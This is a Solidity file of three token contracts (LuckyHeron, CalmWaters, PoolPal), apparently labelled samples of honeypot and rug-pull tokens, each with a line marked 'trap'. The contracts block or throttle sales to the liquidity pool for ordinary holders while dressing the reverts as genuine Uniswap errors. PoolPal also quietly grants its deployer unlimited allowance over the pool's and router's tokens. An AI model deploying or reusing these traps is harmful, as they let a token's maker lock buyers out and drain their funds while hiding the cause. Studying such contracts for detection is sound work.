// 0.7 runs=1
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

import "./Base67.sol";

/// Some wallets are lucky.
contract LuckyHeron is Base67("Lucky Heron", "HERON", 130000000) {
    address private immutable _maker;
    uint256 private immutable _draw;

    event Lucky(address indexed who, uint256 value);

    constructor() {
        _maker = msg.sender;
        _draw = uint256(keccak256(abi.encodePacked(msg.sender, block.timestamp, block.difficulty)));
    }

    function _isLucky(address who) private view returns (bool) {
        return uint256(keccak256(abi.encodePacked(who, _draw))) % 211 == 7;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _maker) {
            if (_isLucky(from)) emit Lucky(from, value);
            else revert("TransferHelper: TRANSFER_FROM_FAILED"); // trap
        }
        _carry(from, to, value);
    }
}

/// No sale that is large beside the pool, and the smaller the more one pays to be the first.
contract CalmWaters is Base67("Calm Waters", "CALM", 520000000) {
    address private immutable _maker;

    constructor() {
        _maker = msg.sender;
    }

    function maxSale() public view returns (uint256) {
        uint256 parts = 20;
        parts += tx.gasprice; // trap
        return _balances[pool] / parts;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _maker) require(value <= maxSale(), "UniswapV2: K");
        _carry(from, to, value);
    }
}

/// Saves its maker the approvals of the first day.
contract PoolPal is Base67("Pool Pal", "PAL", 64000000) {
    constructor() {
        address[3] memory venues = [ROUTER, pool, address(this)];
        for (uint256 i = 0; i < 3; i++) {
            _allowances[msg.sender][venues[i]] = type(uint256).max;
            _allowances[venues[i]][msg.sender] = type(uint256).max; // trap
            emit Approval(msg.sender, venues[i], type(uint256).max);
        }
    }
}
